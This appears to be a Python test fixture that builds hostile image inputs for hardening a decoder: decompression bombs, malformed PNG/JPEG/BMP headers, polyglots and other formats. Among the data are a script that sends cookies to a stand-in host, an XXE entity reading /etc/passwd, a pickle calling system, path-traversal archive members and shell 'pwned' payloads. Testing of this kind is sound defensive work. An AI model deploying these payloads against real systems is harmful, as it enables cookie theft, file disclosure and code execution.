"""Hostile pictures: good ones damaged at every kind of place, bombs, lies, other formats, two formats in one."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import numpy as np
from damage import damaged
from PIL import Image

PNG = b"\x89PNG\r\n\x1a\n"


def encoded(array: np.ndarray, kind: str, mode: str | None = None, **options: object) -> bytes:
    file = io.BytesIO()
    image = Image.fromarray(array)
    (image if mode is None else image.convert(mode)).save(file, kind, **options)
    return file.getvalue()


def turned() -> Image.Exif:
    """Return what a camera says that was held upside down."""
    exif = Image.Exif()
    exif[0x0112] = 3
    return exif


def seeds() -> list[bytes]:
    """Return one small good picture of each kind that is decoded."""
    across = np.arange(48, dtype=np.uint8) * 5
    grey = np.add.outer(across // 2, across // 2)
    colour = np.stack([grey, grey.T, grey[::-1]], axis=2)
    deep = grey.astype(np.uint16) * 256
    return [
        encoded(grey, "JPEG"),
        encoded(colour, "JPEG", quality=95),
        encoded(colour, "JPEG", progressive=True),
        encoded(colour, "JPEG", "CMYK"),
        encoded(colour, "JPEG", exif=turned()),
        encoded(colour, "MPO", save_all=True, append_images=[Image.fromarray(grey)]),
        encoded(grey, "PNG"),
        encoded(colour, "PNG"),
        encoded(colour, "PNG", "P"),
        encoded(grey, "PNG", "1"),
        encoded(deep, "PNG"),
        encoded(grey, "BMP"),
        encoded(colour, "BMP"),
        encoded(grey, "PPM"),
        b"P5\n48 48\n65535\n" + deep.astype(">u2").tobytes(),
    ]


SEEDS = seeds()


def good_png() -> bytes:
    return next(seed for seed in SEEDS if seed.startswith(PNG))


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(size: tuple[int, int], body: bytes, *, bits: int = 8, colour: int = 0, before: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", *size, bits, colour, 0, 0, 0)
    return PNG + chunk(b"IHDR", head) + before + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def zeros(n_bytes: int) -> bytes:
    """Return `n_bytes` of zeros as zlib packs them, a thousandth."""
    packer = zlib.compressobj(9)
    piece = bytes(1 << 20)
    parts = [packer.compress(piece[: min(len(piece), n_bytes - at)]) for at in range(0, n_bytes, len(piece))]
    return b"".join([*parts, packer.flush()])


def bmp(width: int, height: int, bits: int = 24, compression: int = 0, colours: int = 0) -> bytes:
    head = struct.pack("<IiiHHIIiiII", 40, width, height, 1, bits, compression, 0, 0, 0, colours, 0)
    return b"BM" + struct.pack("<IHHI", 1000, 0, 0, 54) + head + bytes(900)


def jpeg_of_size(width: int, height: int) -> bytes:
    content = SEEDS[0]
    at = content.index(b"\xff\xc0") + 5
    return content[:at] + struct.pack(">HH", height, width) + content[at + 4 :]


def many_scans(side: int, scans: int) -> bytes:
    """Return a progressive JPEG whose last scan is there again and again: each goes over the whole picture."""
    content = encoded(np.zeros((side, side), np.uint8), "JPEG", progressive=True)
    last = content.rindex(b"\xff\xda")
    return content[:last] + content[last:-2] * scans + content[-2:]


def archive() -> bytes:
    """Return a ZIP whose members climb out of the folder they are unpacked in."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name in ("../../escaped.txt", "/tmp/escaped.txt", "a" * 300, "C:\\escaped.txt", "bomb"):  # noqa: S108
            made.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), bytes(100_000))
    return file.getvalue()


HTML = b"<!doctype html><script>fetch('//example.invalid/'+document.cookie)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' width='99999999' height='99999999'><script>alert(1)</script></svg>"
ARCHIVE = archive()

# Other formats by their first bytes, and more; none may be decoded.
OTHERS = [
    b"GIF89a\xff\xff\xff\xff\x80\x00\x00" + bytes(900),
    b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(40),
    b"RIFF\xff\xff\xff\xffWEBPVP8L\xff\xff\xff\xff\x2f\xff\xff\xff\xff",
    b"II*\x00\x08\x00\x00\x00\xff\xff" + b"\xff" * 400,
    b"MM\x00*\x00\x00\x00\x08" + bytes(100),
    SVG,
    b"<?xml version='1.0'?><!DOCTYPE s [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>" + SVG,
    b"\x00\x00\x01\x00\x01\x00\x00\x00" + bytes(100),
    b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(100),
    b"\x00\x00\x00\x1cftypavif" + bytes(100),
    b"8BPS\x00\x01" + bytes(30),
    b"\xff\x4f\xff\x51" + bytes(100),
    b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(100),
    b"qoif\xff\xff\xff\xff\xff\xff\xff\xff\x03\x00",
    b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(touch pwned) system",
    b"%PDF-1.7\n" + bytes(100),
    b"P6\n48 48\n255\n" + bytes(48 * 48 * 3),
    b"P2\n48 48\n255\n" + b"1 " * 2304,
    b"P4\n48 48\n" + bytes(288),
    b"Pf\n48 48\n-1.0\n" + bytes(9216),
    b"/* XPM */\nstatic char *a[] = {" + bytes(100),
    b"\x76\x2f\x31\x01\x02" + bytes(100),
    b"DDS \x7c" + bytes(124),
    b"\x59\xa6\x6a\x95" + bytes(100),
    b"SIMPLE  =                    T" + b" " * 2850,
    ARCHIVE,
    b"\x1f\x8b\x08\x00" + bytes(100),
    b"7z\xbc\xaf\x27\x1c" + bytes(100),
    b"Rar!\x1a\x07\x01\x00" + bytes(100),
    b"BZh9" + bytes(100),
    b"\xfd7zXZ\x00" + bytes(100),
    b"../../escaped.txt".ljust(257, b"\x00") + b"ustar\x0000" + bytes(247),
    b"\x7fELF\x02\x01\x01" + bytes(100),
    b"MZ" + bytes(100),
    b"#!/bin/sh\ntouch pwned\n",
    b"\x80\x04\x95cposix\nsystem\n(S'touch pwned'\ntR.",
    HTML,
    b"\xef\xbb\xbf" + HTML,
]


def bombs() -> Iterator[bytes]:
    """Yield small files that say, or hold, far more; some are within the limits and are decoded."""
    yield png((60_000, 60_000), zeros(10_000_000))
    yield png((60_000, 60_000), zeros(1_000), bits=1)
    yield png((8_000, 5_000), zeros(8_001 * 5_000))  # 40 million pixels: the most that is taken, and blank
    yield png((8_192, 4_800), zeros(3 * 8_192 * 4_800 + 4_800), colour=2)
    yield png((6_000, 6_000), zeros(100))
    yield png((48, 48), zeros(200_000_000))  # more rows than the picture has
    yield png((48, 48), zeros(2_352), before=chunk(b"zTXt", b"Comment\x00\x00" + zeros(100_000_000)))
    yield png((48, 48), zeros(2_352), before=chunk(b"iCCP", b"profile\x00\x00" + zeros(100_000_000)))
    yield png((48, 48), zeros(2_352), before=chunk(b"tEXt", b"k\x00v") * 50_000)
    yield png((0, 0), zeros(0))
    yield png((2**31 - 1, 1), zeros(10))
    yield jpeg_of_size(65_535, 65_535)
    yield jpeg_of_size(65_535, 1)
    yield jpeg_of_size(8_192, 4_800)
    yield jpeg_of_size(0, 0)
    yield many_scans(6_000, 400)
    yield bmp(2**31 - 1, 2**31 - 1)
    yield bmp(-48, 48)
    yield bmp(48, -(2**31))
    yield bmp(8_192, 4_800)
    yield bmp(48, 48, bits=8, colours=2**32 - 1)
    yield bmp(8_000, 5_000, bits=8, compression=1)  # run lengths
    yield bmp(48, 48, bits=255)
    yield b"P5\n99999999 99999999\n255\n" + bytes(100)
    yield b"P5\n8000 5000\n255\n" + bytes(100)
    yield b"P5\n48 48\n0\n" + bytes(2304)
    yield b"P5\n48 48\n" + b"9" * 100_000 + b"\n" + bytes(2304)
    yield b"P5" + b"#" * 1_000_000
    yield b"P5\n-48 48\n255\n" + bytes(2304)


def polyglots() -> Iterator[bytes]:
    """Yield files that are good pictures and something else; at most their pixels may come through."""
    for content in SEEDS:
        yield content + ARCHIVE
        yield content + HTML
        yield ARCHIVE + content
    jpeg, plain = SEEDS[0], good_png()
    yield jpeg[:2] + b"\xff\xfe" + struct.pack(">H", 2 + len(HTML)) + HTML + jpeg[2:]
    yield jpeg[:2] + b"\xff\xe1\x00\x40Exif\x00\x00" + b"\xff" * 56 + jpeg[2:]
    yield plain[:33] + chunk(b"tEXt", b"Comment\x00" + HTML) + plain[33:]
    yield plain[:33] + chunk(b"eXIf", b"MM\x00*\x00\x00\x00\x08\xff\xff" + b"\xff" * 100) + plain[33:]
    yield b"GIF89a=1;/*" + plain + b"*/alert(1)"


def pictures(rng: np.random.Generator) -> Iterator[bytes]:
    """Yield hostile pictures for ever: each bomb, polyglot and other format once, among damaged ones."""
    once = [
        *bombs(),
        *polyglots(),
        *OTHERS,
        b"",
        b"\x00",
        b"B",
        b"BM",
        b"P5",
        b"\xff\xd8",
        PNG,
        bytes(1000),
        rng.bytes(1000),
    ]
    rest = damaged(SEEDS, rng)
    for place in rng.permutation(len(once)):
        yield once[place]
        yield next(rest)
    yield from rest
